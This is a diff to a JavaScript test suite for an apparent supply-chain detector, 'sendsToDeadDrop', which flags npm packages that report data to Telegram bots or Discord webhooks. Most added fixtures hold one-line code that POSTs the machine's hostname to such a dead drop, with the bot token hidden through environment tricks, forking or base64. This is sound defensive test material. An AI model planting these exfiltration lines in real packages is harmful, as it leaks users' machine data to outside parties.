@@ -10,6 +10,82 @@ const workers = ['none', 'workers', 'dev'].join('.');
 examine(sendsToDeadDrop, {
   speaks: [
     {
+      when: 'a command tells the bot of the environment about the machine',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        '.env.example': 'TOKEN=',
+        'cli.js': `fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'a webhook of the environment is asked to change a message',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `const { HOOK_ID: id, HOOK_TOKEN: token, MESSAGE } = process.env; fetch('https://${discord}/api/v10/webhooks/' + id + '/' + token + '/messages/' + MESSAGE, { method: 'PATCH', body: require('os').hostname() })`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'the environment goes to code of the package, which may put a token into it',
+      files: {
+        'index.js': `const fill = e => { e.TOKEN = globalThis.specimen() }; fill(process.env); fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a token is taken apart into the environment',
+      files: {
+        'index.js': `({ t: process.env.TOKEN } = { t: globalThis.specimen() }); fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'another token is meant where the environment has none',
+      files: {
+        'index.js': `const { TOKEN = globalThis.specimen() } = process.env; fetch('https://${telegram}/bot' + TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'the package starts itself anew in an environment of its own making',
+      files: {
+        'index.js': `if (!process.env.TOKEN) require('child_process').fork(__filename, { env: { TOKEN: globalThis.specimen() } }); fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a token stands encoded in the code that reads one from settings',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `const fs = require('fs'), f = require('os').homedir() + '/.specimenrc'; fs.writeFileSync(f, JSON.stringify({ token: Buffer.from('${Buffer.from(`1234567890:${'INERT-'.repeat(6)}`).toString('base64')}', 'base64').toString() })); const { token } = JSON.parse(fs.readFileSync(f, 'utf8')); fetch('https://${telegram}/bot' + token + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'an import tells the bot of the environment about the machine',
+      files: {
+        'index.js': `fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'one part of a webhook is of the environment and the rest stands in the code',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `fetch('https://${discord}/api/webhooks/' + process.env.ID + '/INERT', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'an import sends what it finds to the bot that is named when the command is started',
+      files: {
+        'package.json': { name: 'x', main: 'cli.js', bin: 'cli.js' },
+        'cli.js': `const argv = require('yargs/yargs')(process.argv.slice(2)).argv; fetch('https://${telegram}/bot' + argv.token + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a bot has its token from the environment, and another one where that is not set',
       files: {
         'package.json': { name: 'x', bin: 'cli.js' },
@@ -121,7 +197,7 @@ examine(sendsToDeadDrop, {
       files: {
         'package.json': { name: 'x', bin: 'cli.js' },
         '.env.example': 'TOKEN=',
-        'cli.js': `fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+        'cli.js': `fetch('https://${telegram}/bot' + process.env.TOKEN + '/getUpdates')`,
       },
     },
     {
@@ -137,6 +213,12 @@ examine(sendsToDeadDrop, {
       files: {
         'package.json': { name: 'x', bin: 'cli.js' },
         'cli.js': `const { program } = require('commander'); program.option('--token <token>').action(({ token }) => fetch('https://${telegram}/bot' + token + '/getMe'));`,
+      },
+    },
+    {
+      when: 'whoever makes a transport names the bot, and the host stands apart from it',
+      files: {
+        'index.js': `const https = require('https'); exports.Transport = class { constructor({ token }) { this.token = token } log(text) { https.request({ host: '${telegram}', path: '/bot' + this.token + '/sendMessage', method: 'POST' }).end(text) } }`,
       },
     },
     {
